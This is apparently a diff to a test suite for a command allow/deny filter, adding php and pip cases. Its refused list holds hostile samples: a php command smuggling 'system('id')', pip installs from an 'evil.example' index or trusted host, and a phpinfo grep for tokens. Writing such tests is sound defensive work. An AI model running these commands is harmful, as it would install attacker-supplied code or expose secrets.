@@ -153,6 +153,33 @@ describe('install settings of the project’s own dependencies', () => {
   });
 });
 
+describe('php --ini and pip’s --default-timeout', () => {
+  it('list the configuration files, wait longer for the configured index', () => {
+    expectAll(
+      [
+        'php --ini | grep -i scan',
+        'php --ini && php -m',
+        'pip install --default-timeout=300 -e .',
+        'pip3 install --default-timeout 120 -r requirements-dev.txt',
+      ],
+      'allow',
+    );
+  });
+  it('leave phpinfo, code, another index or a file from elsewhere refused', () => {
+    expectAll(
+      [
+        'php -i',
+        'php --info | grep -i token',
+        'php --ini -r "system(\'id\');"',
+        'pip install --default-timeout=100 --index-url https://evil.example/simple x',
+        'pip install --default-timeout=100 -r /root/req.txt',
+        'pip install --default-timeout=100 --trusted-host evil.example x',
+      ],
+      'refused',
+    );
+  });
+});
+
 describe('what stays refused', () => {
   it('Maven’s help:evaluate (an expression may print the environment) and settings from a file', () => {
     expect(
